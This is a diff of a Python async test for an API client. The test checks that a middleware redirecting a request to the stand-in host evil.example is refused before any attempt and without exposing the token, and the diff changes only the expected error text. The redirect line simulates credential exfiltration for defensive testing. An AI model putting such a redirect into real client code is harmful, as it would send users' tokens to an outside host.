@@ -220,7 +220,7 @@ async def test_a_users_link_cannot_take_the_token_elsewhere() -> None:
         return await send(evolve(request, url=f"https://evil.example/conversations/{ID}"))
 
     async with SiteAssist(TOKEN, middleware=[astray]) as client:
-        with pytest.raises(ConfigurationError, match=f"the token is for {BASE_URL}/ only") as error:
+        with pytest.raises(ConfigurationError, match=f"outside base_url {BASE_URL}/: ") as error:
             await client.conversations.get(ID)
     assert error.value.attempts == 0
     assert TOKEN not in str(error.value)
